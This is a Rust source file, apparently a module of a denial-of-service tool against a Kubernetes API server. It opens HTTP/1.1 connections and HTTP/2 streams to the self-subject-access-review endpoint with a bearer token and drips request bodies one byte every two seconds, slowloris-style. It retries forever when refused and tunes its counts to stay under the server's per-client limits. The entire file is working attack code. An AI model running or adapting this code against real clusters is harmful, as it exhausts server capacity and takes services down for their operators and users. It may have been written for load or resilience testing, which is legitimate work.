//! Requests of an ordinary user whose bodies come byte by byte: some on connections of their own,
//! the rest as streams of a few. What the server refuses is sent again.

use std::convert::Infallible;
use std::pin::Pin;
use std::sync::Arc;
use std::task::{Context, Poll};
use std::time::Duration;

use bytes::Bytes;
use http::Request;
use hyper::body::{Body, Frame};
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::{Interval, interval};

use super::{Attack, Open};

/// Every authenticated user may ask this.
const PATH: &str = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";
/// A byte comes this often.
const BYTE_EVERY: Duration = Duration::from_secs(2);
/// What the body is said to be.
const BYTES: usize = 1 << 20;
/// Streams of a connection; the server lets a client of this class have 250.
const STREAMS: usize = 200;

/// A quarter of them over HTTP/1.1: an ordinary user may have 500 connections.
pub(super) fn start(attack: &Arc<Attack>, count: usize) {
    let alone = count / 4;
    for _ in 0..alone {
        let attack = attack.clone();
        tokio::spawn(async move { attack.forever(|| alone_once(&attack)).await });
    }
    let mut left = count - alone;
    while left > 0 {
        let streams = left.min(STREAMS);
        left -= streams;
        let attack = attack.clone();
        tokio::spawn(async move { attack.forever(|| streams_once(&attack, streams)).await });
    }
}

async fn alone_once(attack: &Attack) -> anyhow::Result<()> {
    let permit = attack.connecting.acquire().await?;
    let stream = attack.endpoint.tls(attack.endpoint.tcp(attack.from).await?, b"http/1.1").await?;
    drop(permit);
    let (mut read, mut write) = tokio::io::split(stream);
    let head = format!(
        "POST {PATH} HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer {}\r\n\
         content-type: application/json\r\ncontent-length: {BYTES}\r\n\r\n{{",
        attack.token
    );
    write.write_all(head.as_bytes()).await?;
    let _open = Open::new(&attack.counts);
    let mut buffer = [0; 1024];
    let mut ticks = interval(BYTE_EVERY);
    loop {
        tokio::select! {
            // An answer is a refusal.
            _ = read.read(&mut buffer) => return Ok(()),
            _ = ticks.tick() => write.write_all(b" ").await?,
        }
    }
}

async fn streams_once(attack: &Arc<Attack>, streams: usize) -> anyhow::Result<()> {
    let permit = attack.connecting.acquire().await?;
    let stream = attack.endpoint.tls(attack.endpoint.tcp(attack.from).await?, b"h2").await?;
    let (sender, connection) =
        hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(stream)).await?;
    drop(permit);
    let mut requests = JoinSet::new();
    for _ in 0..streams {
        let (attack, mut sender) = (attack.clone(), sender.clone());
        requests.spawn(async move {
            // Until the connection ends.
            while sender.ready().await.is_ok() {
                let body = Drops(interval(BYTE_EVERY));
                let request = Request::post(format!("https://localhost{PATH}"))
                    .header("authorization", format!("Bearer {}", attack.token))
                    .header("content-type", "application/json")
                    .body(body);
                let Ok(request) = request else { return };
                let open = Open::new(&attack.counts);
                let _refused = sender.send_request(request).await;
                drop(open);
                tokio::time::sleep(super::AGAIN_AFTER).await;
            }
        });
    }
    Ok(connection.await?)
}

/// A body that comes byte by byte and never ends.
struct Drops(Interval);

impl Body for Drops {
    type Data = Bytes;
    type Error = Infallible;

    fn poll_frame(
        mut self: Pin<&mut Self>,
        context: &mut Context<'_>,
    ) -> Poll<Option<Result<Frame<Bytes>, Infallible>>> {
        self.0.poll_tick(context).map(|_| Some(Ok(Frame::data(Bytes::from_static(b" ")))))
    }
}
